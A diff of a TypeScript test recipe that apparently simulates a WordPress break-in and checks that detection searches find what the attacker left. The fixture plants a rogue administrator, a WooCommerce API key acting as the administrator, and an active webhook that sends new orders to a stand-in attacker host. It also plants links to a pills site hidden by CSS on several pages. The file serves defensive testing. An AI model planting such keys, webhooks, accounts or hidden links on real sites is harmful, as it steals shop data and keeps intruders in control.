@@ -187,8 +187,16 @@ const OPEN_SIGNUP = {
  */
 const ESCAPED = {shown: 'x^[[1A^[[2K.php', written: String.raw`x\e[1A\e[2K.php`};
 const ESCAPED_YML = {shown: 'wp-cli^[[2K.yml', written: String.raw`wp-cli\e[2K.yml`};
-/** WooCommerce's API key and webhook tables with `prefix` (their columns as WC_Install::get_schema() makes them). */
-export const wooCommerceTables = (prefix: string) => `CREATE TABLE ${prefix}woocommerce_api_keys (
+/**
+ * WooCommerce's API key and webhook tables with `prefix` (their columns as WC_Install::get_schema() makes them), each
+ * holding one row planted for `owner` (a user ID, or SQL giving one): the key and webhook an attacker leaves.
+ */
+export const wooCommerceKeyAndWebhook = (
+  prefix: string,
+  owner: string,
+  key: {description: string; permissions: string},
+  webhook: {name: string; url: string},
+) => `CREATE TABLE ${prefix}woocommerce_api_keys (
   key_id bigint(20) unsigned NOT NULL auto_increment,
   user_id bigint(20) unsigned NOT NULL,
   description varchar(200) NULL,
@@ -219,7 +227,11 @@ CREATE TABLE ${prefix}wc_webhooks (
   pending_delivery tinyint(1) NOT NULL DEFAULT '0',
   PRIMARY KEY  (webhook_id),
   KEY user_id (user_id)
-);`;
+);
+INSERT INTO ${prefix}woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
+  SELECT ${owner}, '${key.description}', '${key.permissions}', SHA2('ck_planted', 256), 'cs_planted', 'planted';
+INSERT INTO ${prefix}wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
+  SELECT 'active', '${webhook.name}', ${owner}, '${webhook.url}', 'planted', 'order.created', 3;`;
 /**
  * A shop's REST API key and webhook the attacker leaves (review r54 MEDIUM 2), in WooCommerce's own tables (its
  * WC_Install::get_schema()), which the site as installed does not have: the key acts as the administrator.
@@ -232,11 +244,27 @@ const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/order
  * to the right and at opacity 0.0 (review r121a M2).
  */
 const HIDDEN_SPAM = [
-  {page: 'Our team', link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>'},
-  {page: 'Our history', link: '<span style="width:1px;height:1px;overflow:hidden"><a href="https://pills.example/">pills</a></span>'},
-  {page: 'Our values', link: '<div style="transform:scale(0)"><a href="https://pills.example/">pills</a></div>'},
-  {page: 'Our story', link: '<div style="position:absolute;right:-9999px"><a href="https://pills.example/">pills</a></div>'},
-  {page: 'Our mission', link: '<p style="opacity:0.0;position:absolute"><a href="https://pills.example/">pills</a></p>'},
+  {
+    page: 'Our team',
+    how: 'off-screen to the left',
+    link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>',
+  },
+  {
+    page: 'Our history',
+    how: 'a 1px box',
+    link: '<span style="width:1px;height:1px;overflow:hidden"><a href="https://pills.example/">pills</a></span>',
+  },
+  {page: 'Our values', how: 'scaled to nothing', link: '<div style="transform:scale(0)"><a href="https://pills.example/">pills</a></div>'},
+  {
+    page: 'Our story',
+    how: 'off-screen to the right',
+    link: '<div style="position:absolute;right:-9999px"><a href="https://pills.example/">pills</a></div>',
+  },
+  {
+    page: 'Our mission',
+    how: 'opacity 0.0',
+    link: '<p style="opacity:0.0;position:absolute"><a href="https://pills.example/">pills</a></p>',
+  },
 ];
 /** A link hidden by CSS in a widget's option, where no date shows it (review r121a M1). */
 const HIDDEN_WIDGET = {name: 'wpc_footer_links', value: '<div style="display:none"><a href="https://pills.example/">pills</a></div>'};
@@ -370,11 +398,7 @@ INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_reg
 INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
 SQL
 wp --path=${SITE.root} db query <<'SQL'
-${wooCommerceTables('wp_')}
-INSERT INTO wp_woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
-  VALUES (1, '${SHOP_KEY.description}', '${SHOP_KEY.permissions}', SHA2('ck_planted', 256), 'cs_planted', 'planted');
-INSERT INTO wp_wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
-  VALUES ('active', '${SHOP_WEBHOOK.name}', 1, '${SHOP_WEBHOOK.url}', 'planted', 'order.created', 3);
+${wooCommerceKeyAndWebhook('wp_', '1', SHOP_KEY, SHOP_WEBHOOK)}
 SQL
 ${HIDDEN_SPAM.map(
   ({page}) =>
@@ -931,14 +955,14 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       missedWider.length === 0,
       LOADING_CHECKS,
-      `the searches also find a meta refresh in the option ${INJECTED_WIDER.refreshOption.name}, atob in post ${INJECTED_WIDER.atobMeta.post}'s field ${INJECTED_WIDER.atobMeta.key} and document.write in the option ${INJECTED_WIDER.writeOption.name}, none of which holds a script tag, handler or eval`,
+      `the searches also find a meta refresh in the option ${INJECTED_WIDER.refreshOption.name}, atob in post ${INJECTED_WIDER.atobMeta.post}'s field ${INJECTED_WIDER.atobMeta.key} document.write in the option ${INJECTED_WIDER.writeOption.name} and a JSON-escaped meta refresh in post ${INJECTED_WIDER.builderMeta.post}'s field ${INJECTED_WIDER.builderMeta.key}, none of which holds a script tag, handler or eval`,
       () => `the widened searches for injected code missed ${missedWider.map(([where]) => where).join(', ')}:\n${loaded}`,
     );
     const missedHidden = HIDDEN_SPAM.filter(({page}) => !new RegExp(`^\\d+\\tpage\\tpublish\\t${page}$`, 'm').test(loaded));
     ctx.expect(
       missedHidden.length === 0,
       LOADING_CHECKS,
-      `the search for links hidden by CSS lists the pages ${HIDDEN_SPAM.map(({page}) => `"${page}"`).join(', ')} (off-screen, a 1px box, scaled to nothing), changed in the table with no script and their dates kept`,
+      `the search for links hidden by CSS lists the pages ${HIDDEN_SPAM.map(({page, how}) => `"${page}" (${how})`).join(', ')}, changed in the table with no script and their dates kept`,
       () =>
         `the checks that load WordPress did not list ${missedHidden.map(({page}) => `the page "${page}"`).join(', ')} with a link hidden by CSS:\n${loaded}`,
     );
